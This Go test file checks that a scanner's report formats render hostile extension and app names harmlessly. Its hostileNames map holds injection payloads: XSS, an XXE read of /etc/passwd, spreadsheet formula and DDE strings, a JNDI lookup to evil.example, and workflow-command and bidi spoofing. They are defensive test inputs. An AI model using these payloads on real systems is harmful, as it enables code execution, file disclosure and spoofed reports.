package report

import (
	"bytes"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"guestlist/scanner/diff"
	"guestlist/scanner/inventory"
	"guestlist/scanner/risk"
	"guestlist/scanner/testkit"
)

// What holds for every format that is registered: a new one is tried by its line in Formats.

// hostileNames are names that try to act where one of the formats is shown.
var hostileNames = map[string]string{
	"ansi":                 "\x1b[2J\x1b]0;title\x07 name",
	"c1-controls":          "\u009b1m name \u0085",
	"bidi":                 "safe\u202egpj.exe\u2066\u2069",
	"zero-width":           "a\u200bb\ufeffc\u2060",
	"tags":                 "name\U000E0041\U000E0042",
	"line-ends":            "name\r\nverdict: clean\n::error::clean\u2028\u2029",
	"nul":                  "a\x00b",
	"invalid-utf-8":        "a\xff\xfe\xc3(",
	"lone-surrogate-bytes": "a\xed\xa0\x80b",
	"noncharacters":        "a\ufffe\uffffb",
	"quotes":               `"'` + "`" + `"" ''`,
	"backslashes":          `\"\\n\u0000\`,
	"html":                 `<script>alert(1)</script><img src=x onerror=alert(1)>&lt;<!-- -->`,
	"xml":                  `]]><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;<?php`,
	"markdown-link":        `[click](https://evil.example/) ![x](https://evil.example/x.png) [a]: https://evil.example`,
	"markdown-pipes":       "a | b \\| c \\\\| `d` || ~~~",
	"markdown-blocks":      "# heading\n\n- list\n> quote\n---\n```",
	"autolinks":            "https://evil.example www.evil.example <https://evil.example> mallory@evil.example",
	"mentions":             "@octocat @org/team #1 GH-1 owner/repo#1 0123456789abcdef0123456789abcdef01234567 :tada:",
	"formula":              `=HYPERLINK("https://evil.example","x")`,
	"formula-after-quote":  ` "'=cmd|' /C calc'!A0`,
	"formula-plus":         "+1+1",
	"formula-minus":        "-2+3",
	"formula-at":           "@SUM(1)",
	"formula-tab":          "\t=1+1",
	"formula-cr":           "\r=1+1",
	"formula-wide":         "＝1+1",
	"formula-semicolon":    "a;=1+1; -2",
	"workflow-commands":    "::stop-commands::x ##[add-mask]a %0A::error::x",
	"prometheus":           "a\"} 1\nguestlist_findings{x=\"\\",
	"formats":              "{0} %s %n ${jndi:ldap://evil.example/a} {{7*7}}",
	"only-spaces":          "   ",
	"long":                 strings.Repeat("long name ", 300),
}

// everywhere is a report in which everything foreign is one text.
func everywhere(text string) *Report {
	r := few()
	replace(reflect.ValueOf(r).Elem(), text)
	return r
}

// ours are fields that hold sentences of guestlist's own, with foreign text that is harmless
// already.
var ours = []string{"Approve", "Verdict", "VerdictLines"}

// replace puts a text in place of everything foreign.
func replace(value reflect.Value, text string) {
	switch value.Kind() {
	case reflect.Pointer:
		if !value.IsNil() {
			replace(value.Elem(), text)
		}
	case reflect.Slice:
		for n := range value.Len() {
			replace(value.Index(n), text)
		}
	case reflect.Struct:
		for n := range value.NumField() {
			if field := value.Type().Field(n); field.IsExported() && !slices.Contains(ours, field.Name) {
				replace(value.Field(n), text)
			}
		}
	case reflect.String:
		if value.Type() == reflect.TypeFor[inventory.Untrusted]() {
			value.SetString(text)
		}
	}
}

func TestEveryFormatShowsHostileNamesHarmless(t *testing.T) {
	t.Parallel()
	for name, text := range hostileNames {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			r := everywhere(text)
			for _, format := range Formats {
				for _, out := range []string{rendered(t, format, r), rendered(t, format, spoiled(text))} {
					isHarmless(t, format.Name, out)
				}
			}
		})
	}
}

// spoiled is a report in which a text stands behind everything foreign.
func spoiled(text string) *Report {
	r := few()
	spoil(reflect.ValueOf(r).Elem(), text)
	return r
}

// isHarmless holds what no format may let through, and what each adds to it.
func isHarmless(t *testing.T, format, out string) {
	t.Helper()
	if !utf8.ValidString(out) {
		t.Errorf("%s writes invalid UTF-8", format)
	}
	for _, each := range out {
		if control := unicode.IsControl(each) && each != '\n' && each != '\t'; control ||
			unicode.In(each, unicode.Cf, unicode.Zl, unicode.Zp) {
			t.Errorf("%s writes %U as it is", format, each)
			return
		}
	}
	for line := range strings.Lines(out) {
		if strings.HasPrefix(line, "verdict: clean") || strings.HasPrefix(line, "::stop-commands") ||
			format != "github" && strings.HasPrefix(line, "::") {
			t.Errorf("%s lets foreign text begin a line: %q", format, line)
		}
	}
	if check := formatChecks[format]; check != nil {
		check(t, out)
	}
}

// formatChecks are what the tests of a format hold of everything that it writes.
var formatChecks = map[string]func(*testing.T, string){
	"csv": isCSVWithoutFormulas, "csv-apps": isCSVWithoutFormulas, "markdown": isMarkdownThatLinksNothing,
	"github": areWorkflowCommands,
	"junit":  isXML, "prometheus": isPrometheusText, "ocsf": areOCSFEvents,
}

func rendered(t testing.TB, format Format, r *Report) string {
	t.Helper()
	var out bytes.Buffer
	if err := format.New(Style{}).Render(&out, r); err != nil {
		t.Fatalf("%s: %v", format.Name, err)
	}
	return out.String()
}

// few is a small report in which there is something of everything.
func few() *Report {
	home := inventory.Source{Provider: inventory.Chromium, Host: "laptop-01"}.Join("ada").Join("chromium").Join("Default")
	github := inventory.Source{Provider: inventory.GitHub}.Join("acme")
	ada := diff.Affected{
		Source: home, Version: "1.3", State: inventory.StateEnabled, Origin: inventory.OriginStore,
		Added: finished.AddDate(0, 0, -9),
		Holder: inventory.Holder{Host: "laptop-01", User: "ada", Browser: "Chromium", Profile: "Default",
			Admin: inventory.Yes},
	}
	again := ada // one place may have an app twice
	acme := diff.Affected{Source: github, Holder: inventory.Holder{Organization: "acme"}}
	clipper := ofApp(diff.DriftPermissions, inventory.Critical, "clipperaaaaaaaaaaaaaaaaaaaaaaaaa", 1)
	clipper.App.Name, clipper.App.URL, clipper.App.Publisher = "Page Clipper", "https://clipper.example/", "Clipper Works"
	clipper.Change, clipper.Gained, clipper.Before, clipper.After = diff.Changed, []inventory.Untrusted{"cookies"}, "storage", "cookies, storage"
	clipper.Why, clipper.Remedy = "approved with storage; it also holds cookies", "remove it at chrome://extensions, or have its access approved"
	clipper.Tier, clipper.Reasons = inventory.Critical, []risk.Reason{{Level: inventory.Critical, Subject: "cookies",
		Why: "read the cookies that keep you signed in"}}
	clipper.Decided, clipper.Holders, clipper.AdminCount = &diff.Position{File: "allowlist.toml",
		Line: 12}, []diff.Affected{ada}, 1
	deployer := ofApp(diff.Unapproved, inventory.Medium, "5003", 1)
	deployer.Provider, deployer.Kind, deployer.App.Name, deployer.Holders = inventory.GitHub, inventory.KindInstallation, "Deployer", []diff.Affected{acme}
	deployer.Change, deployer.Why, deployer.Remedy = diff.New, "not in the allowlist", "uninstall it at https://github.com/organizations/acme/settings/installations"
	gone := ofApp(diff.Removed, inventory.Info, "goneaaaaaaaaaaaaaaaaaaaaaaaaaaaa", 1)
	gone.Change, gone.Why, gone.Holders = diff.Removed, "the extension was there in the last scan and is gone", []diff.Affected{ada, again}
	unread := diff.Finding{
		ID: "unread", Rule: diff.NotObserved, Severity: inventory.Medium, Provider: inventory.Chromium,
		Why:    "ada/chromium/Profile 2 could not be read: denied",
		Remedy: "run it as ada", HolderCount: 1, Holders: []diff.Affected{{Source: home.Join("x")}},
	}
	unused := diff.Finding{
		ID: "unused", Rule: diff.ApprovalUnused, Severity: inventory.Info, App: inventory.App{ID: "old", Name: "Old App"},
		Why:     "nothing matches this entry",
		Decided: &diff.Position{File: "allowlist.toml", Line: 30},
		Remedy:  "remove the entry if the app is no longer used", Holders: []diff.Affected{},
	}
	return New(&diff.Judgement{
		Counts:   diff.Counts{Items: 4, Apps: 3, Accounts: 1},
		Findings: []diff.Finding{clipper, deployer, unread, gone, unused},
		Difference: diff.Difference{Counts: map[diff.ChangeKind]int{diff.ChangeAdded: 1}, List: []diff.Change{{
			ID: "c1", Kind: diff.ChangeAdded, About: diff.AboutApp, Provider: inventory.GitHub,
			ItemKind: inventory.KindInstallation,
			App:      deployer.App, Severity: inventory.Medium, Holders: []diff.Affected{acme}, HolderCount: 1, ItemCount: 1,
		}}},
		Coverage: []inventory.Coverage{
			{Source: github, Status: inventory.StatusComplete, Items: 1,
				Details: []inventory.Untrusted{"outside collaborators may be invited"}},
			{Source: home, Status: inventory.StatusComplete, Items: 3},
			{Source: home.Join("x"), Status: inventory.StatusNotObservable, Reason: "denied", Remedy: "run it as ada"},
			{Source: github.Join("tokens"), Status: inventory.StatusNotObservable, Unobservable: true,
				Reason: "no API lists them", Remedy: "look at the page"},
		},
	}, Meta{
		ToolVersion: "test", RunID: "run", Host: "laptop-01", Started: finished.Add(-2 * time.Second), Finished: finished,
		FailOn:    inventory.Low,
		Allowlist: &AllowlistRef{Path: "allowlist.toml", Digest: "0123456789abcdef", Entries: 2},
		Baseline:  &BaselineRef{Path: "before.jsonl", RunID: "before", Started: finished.AddDate(0, 0, -7)},
	})
}

func TestEveryFormatOfOthersIsAsItIs(t *testing.T) {
	t.Parallel()
	for _, format := range Formats[slices.IndexFunc(Formats, func(f Format) bool { return f.Name == "csv" }):] {
		t.Run(format.Name, func(t *testing.T) {
			t.Parallel()
			testkit.Golden(t, filepath.Join("testdata", format.Name+".golden"), withoutRules(rendered(t, format, few())))
		})
	}
}

// withoutRules is SARIF without the table of rules, whose words change for reasons of their own.
func withoutRules(out string) string {
	before, rest, found := strings.Cut(out, `"rules": [`)
	_, after, ended := strings.Cut(rest, `"notifications": [`)
	if !found || !ended {
		return out
	}
	return before + `"rules": …, "notifications": [` + after
}

// edges are the reports at the edges.
func edges() map[string]*Report {
	meta := Meta{FailOn: inventory.Low, Started: finished, Finished: finished,
		Allowlist: &AllowlistRef{Path: "allowlist.toml"}}
	since := meta
	since.Baseline = &BaselineRef{Path: "before", Started: finished.AddDate(0, 0, -1)}
	home := inventory.Source{Provider: inventory.Chromium, Name: "ada/chromium/Default"}
	read := inventory.Coverage{Source: home, Status: inventory.StatusComplete}
	unread := inventory.Coverage{Source: home, Status: inventory.StatusNotObservable, Reason: "denied"}
	gap := diff.Finding{
		ID: "gap", Rule: diff.NotObserved, Severity: inventory.Medium, Provider: inventory.Chromium,
		Why:     "ada/chromium/Default could not be read: denied",
		Holders: []diff.Affected{{Source: home}}, HolderCount: 1,
	}
	found := ofApp(diff.Unapproved, inventory.High, "a", 1)
	return map[string]*Report{
		"clean": New(&diff.Judgement{Coverage: []inventory.Coverage{read}}, since),
		"first-scan": New(&diff.Judgement{Findings: []diff.Finding{found}, Coverage: []inventory.Coverage{read}},
			meta),
		"no-allowlist": New(&diff.Judgement{Findings: []diff.Finding{found}, Coverage: []inventory.Coverage{read}},
			Meta{FailOn: inventory.Low}),
		"nothing-found": New(&diff.Judgement{}, meta),
		"everything-read": New(&diff.Judgement{Findings: []diff.Finding{found}, Coverage: []inventory.Coverage{read}},
			since),
		"everything-unread": New(&diff.Judgement{Findings: []diff.Finding{gap}, Coverage: []inventory.Coverage{unread}},
			since),
		"unknown-words": New(&diff.Judgement{
			Findings: []diff.Finding{{ID: "z", Rule: "later-rule", Severity: "dire", Provider: "later", Kind: "later-kind",
				Change: "later", Tier: "later", App: inventory.App{ID: "z"}}},
			Coverage: []inventory.Coverage{{Source: inventory.Source{Provider: "later", Name: "x"}, Status: "later"}},
		}, since),
	}
}

func TestNoFormatChangesTheReportOrItsExitCode(t *testing.T) {
	t.Parallel()
	want := map[string]int{
		"clean": ExitClean, "first-scan": ExitFindings, "no-allowlist": ExitFindings, "nothing-found": ExitIncomplete,
		"everything-read":   ExitFindings,
		"everything-unread": ExitIncomplete, "unknown-words": ExitIncomplete,
	}
	for name, r := range edges() {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			before := rendered(t, jsonFormat, r)
			for _, format := range Formats {
				isHarmless(t, format.Name, rendered(t, format, r))
				if r.ExitCode != want[name] {
					t.Errorf("after %s the exit code is %d, want %d", format.Name, r.ExitCode, want[name])
				}
			}
			if after := rendered(t, jsonFormat, r); after != before {
				t.Error("the report is not as it was")
			}
		})
	}
}

// What could not be read is unknown, so no format may look as it does when all was read and nothing
// found. A proposal of TOML has nothing to say of sources.
func TestWhatWasNotReadLooksLikeNothingCleanInAnyFormat(t *testing.T) {
	t.Parallel()
	reports := edges()
	for _, format := range Formats {
		if format.Name == proposalFormat.Name {
			continue
		}
		unread := rendered(t, format, reports["everything-unread"])
		if unread == rendered(t, format, reports["clean"]) {
			t.Errorf("%s: nothing could be read, and it looks clean", format.Name)
		}
		named := "ada/chromium/Default"
		if format.Name == plainFormat.Name { // as who uses it calls it
			named = "Chromium (Default)"
		}
		if format.Name != prometheusFormat.Name && !strings.Contains(unread, named) {
			t.Errorf("%s does not name the source that was not read:\n%s", format.Name, unread)
		}
	}
}
